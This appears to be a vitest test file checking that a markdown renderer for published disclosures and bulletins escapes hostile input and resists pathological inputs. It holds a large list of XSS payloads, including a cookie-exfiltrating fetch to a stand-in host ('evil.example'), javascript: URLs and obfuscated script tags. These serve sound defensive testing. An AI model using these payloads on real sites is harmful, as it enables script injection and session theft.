import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../../server/disclosure/markdown.ts';
import { accepted, officesOf, published, verbs, type Offices } from '../../support/editions.ts';
import { openTown, type Town } from '../../support/town.ts';
import { kioskOperation } from './wire.ts';

let town: Town;
let offices: Offices;

beforeAll(async () => {
  town = await openTown();
  offices = await officesOf(town);
});
afterAll(() => town.close());

/** Every tag a text may become; two of them may carry an attribute, of no other value. */
const ALLOWED_TAG = new RegExp(
  '^</?(p|h[1-6]|ul|ol|li|strong|em|s|blockquote|pre|code|hr|br|table|thead|tbody|tr|th|td)>$' +
    '|^<t[hd] class="(left|center|right)">$' +
    '|^<ol start="\\d{1,9}">$',
);

function tagsBeyondTheList(html: string): string[] {
  const rest = html.replace(/<[^<>]*>/g, (tag) => (ALLOWED_TAG.test(tag) ? '' : tag));
  return rest.match(/<[^>]*>?/g) ?? [];
}

const SCRIPTS = ['alert(1)', 'alert`1`', 'fetch("//evil.example/"+document.cookie)'];
const TAGS = [
  '<script>X</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>X</scr</script>ipt>',
  '<img src=x onerror="X">',
  '<img src=x onerror=X//',
  '<svg onload=X>',
  '<svg><script>X</script></svg>',
  '<svg><animate onbegin=X attributeName=x dur=1s>',
  '<math><mi xlink:href="javascript:X">x</mi></math>',
  '<iframe src="javascript:X"></iframe>',
  '<iframe srcdoc="<script>X</script>"></iframe>',
  '<body onload=X>',
  '<details open ontoggle=X>',
  '<input autofocus onfocus=X>',
  '<video><source onerror=X></video>',
  '<a href="javascript:X">x</a>',
  '<a href="data:text/html,<script>X</script>">x</a>',
  '<form action="javascript:X"><button>x</button></form>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:X">',
  '<base href="//evil.example/">',
  '<object data="javascript:X"></object>',
  '<!--><script>X</script>-->',
  '<![CDATA[<script>X</script>]]>',
  '<?xml version="1.0"?><script>X</script>',
  '</p><script>X</script><p>',
];
const MARKS = [
  '[x](javascript:X)',
  '[x](JaVaScRiPt:X)',
  '[x](&#106;avascript:X)',
  '[x](java\nscript:X)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:X)',
  '[x](https://evil.example "onmouseover=X")',
  '[x]: javascript:X\n\n[x]',
  '![x](javascript:X)',
  '![x"onerror="X](https://evil.example/x.png)',
  '<javascript:X>',
  '<https://evil.example/?X>',
  'https://evil.example/X',
  '<x@evil.example>',
  '```"><script>X</script>\ncode\n```',
  '```js" onmouseover="X\ncode\n```',
  '~~~<img src=x onerror=X>\ncode\n~~~',
  '`<script>X</script>`',
  '    <script>X</script>',
  '| a | b |\n|:-|-:|\n| <img src=x onerror=X> | `"><script>X</script>` |',
  '| a |\n|:-:" onclick="X|\n| b |',
  '> <script>X</script>',
  '# <svg onload=X>',
  '1. <script>X</script>',
  '999999999. X\n1000000000. x',
  '* * *\n<hr onclick=X>',
  '**<b onclick=X>**',
  '&lt;script&gt;X&lt;/script&gt;',
  '&#60;script&#62;X&#60;/script&#62;',
  '&#x3c;img src=x onerror=X&#x3e;',
  '\\<script\\>X\\</script\\>',
  '<scr\u0000ipt>X</scr\u0000ipt>',
  '\u202e<script>X</script>',
  '＜script＞X＜/script＞',
];

const PAYLOADS = [
  ...TAGS.flatMap((tag) => SCRIPTS.slice(0, 2).map((script) => tag.replaceAll('X', script))),
  ...MARKS.flatMap((mark) => SCRIPTS.slice(1).map((script) => mark.replaceAll('X', script))),
];

interface Shown {
  disclosure: {
    title: string;
    body: string;
    bodyHtml: string;
    editions: { title: string; bodyHtml: string; changeNote: string | null }[];
  };
  bulletins: { disclosureId: string; headline: string; summary: string }[];
}

const READ = `query ($id: ID!) {
  disclosure(id: $id) { title body bodyHtml editions { title bodyHtml changeNote } }
  bulletins { disclosureId headline summary }
}`;

describe('text that would be a program', () => {
  it(`is text in each of ${PAYLOADS.length} payloads`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(100);
    for (const payload of PAYLOADS) {
      const html = renderMarkdown(payload);
      expect([payload, tagsBeyondTheList(html)]).toEqual([payload, []]);
      expect(html.replace(/<[^>]*>/g, '')).not.toMatch(/[<>]/);
    }
  });

  it('stays text when all of it is published and read by the public', async () => {
    const body = PAYLOADS.join('\n\n');
    const { disclosureId } = await published(offices, { body });
    const { disclosure } = await offices.office.must<Shown>(READ, { id: disclosureId });
    expect(disclosure.body).toBe(body);
    expect(tagsBeyondTheList(disclosure.bodyHtml)).toEqual([]);
    expect(tagsBeyondTheList(disclosure.editions[0]!.bodyHtml)).toEqual([]);
    const answer = await fetch(`${town.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        query: kioskOperation('Disclosure'),
        variables: { id: disclosureId },
      }),
    });
    expect(answer.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    const shown = (await answer.json()) as { data: Shown };
    expect(tagsBeyondTheList(shown.data.disclosure.bodyHtml)).toEqual([]);
  });

  it('comes back as it was written in title, headline, summary and change note', async () => {
    const words = '<img src=x onerror=alert(1)> &lt;b&gt; "\'`${1}` {{1}}';
    const first = await published(offices, {
      title: words,
      bulletin: { headline: words, summary: words },
    });
    const revised = accepted(await verbs.revise(offices.drafter, first.disclosureId, words));
    const passed = accepted(
      await verbs.pass(offices.leader, accepted(await verbs.submit(offices.drafter, revised))),
    );
    accepted(await verbs.publish(offices.office, passed));
    const shown = await offices.office.must<Shown>(READ, { id: first.disclosureId });
    const bulletin = shown.bulletins.find(
      ({ disclosureId }) => disclosureId === first.disclosureId,
    )!;
    expect(shown.disclosure.title).toBe(words);
    expect(shown.disclosure.editions[0]!.changeNote).toBe(words);
    expect([bulletin.headline, bulletin.summary]).toEqual([words, words]);
  });
});

describe('text as the office writes it', () => {
  it.each([
    ['严禁 **焚烧** 秸秆', '<p>严禁 <strong>焚烧</strong> 秸秆</p>\n'],
    ['1. 一\n2. 二', '<ol>\n<li>一</li>\n<li>二</li>\n</ol>\n'],
    ['3. 三', '<ol start="3">\n<li>三</li>\n</ol>\n'],
    ['```sh\nls\n```', '<pre><code>ls\n</code></pre>\n'],
    [
      '| 村 | 金额 |\n|:-:|-:|\n| 前潘 | 1.00 |',
      '<table>\n<thead>\n<tr>\n<th class="center">村</th>\n<th class="right">金额</th>\n</tr>\n</thead>\n' +
        '<tbody>\n<tr>\n<td class="center">前潘</td>\n<td class="right">1.00</td>\n</tr>\n</tbody>\n</table>\n',
    ],
  ])('%j keeps its form without a style', (text, html) => {
    expect(renderMarkdown(text)).toBe(html);
  });

  it.each([
    ['a wall of brackets', '['.repeat(20_000)],
    ['nested quotes', '>'.repeat(20_000)],
    ['nested lists', Array.from({ length: 300 }, (_, at) => `${' '.repeat(at * 2)}- x`).join('\n')],
    ['stars without end', '*a **a '.repeat(5_000)],
    ['backticks without end', Array.from({ length: 300 }, (_, at) => '`'.repeat(at)).join(' ')],
    [
      'a table of many columns',
      `${'|a'.repeat(2_000)}|\n${'|-'.repeat(2_000)}|\n${'|b\n'.repeat(2_000)}`,
    ],
    ['entities', '&amp;'.repeat(20_000)],
  ])('%s costs little to render', (what, text) => {
    const before = process.cpuUsage();
    const html = renderMarkdown(text);
    const ms = process.cpuUsage(before).user / 1_000;
    console.log(`${what}: ${ms.toFixed(0)} ms of a core, ${html.length} characters`);
    expect(ms).toBeLessThan(2_000);
    expect(tagsBeyondTheList(html)).toEqual([]);
  });
});
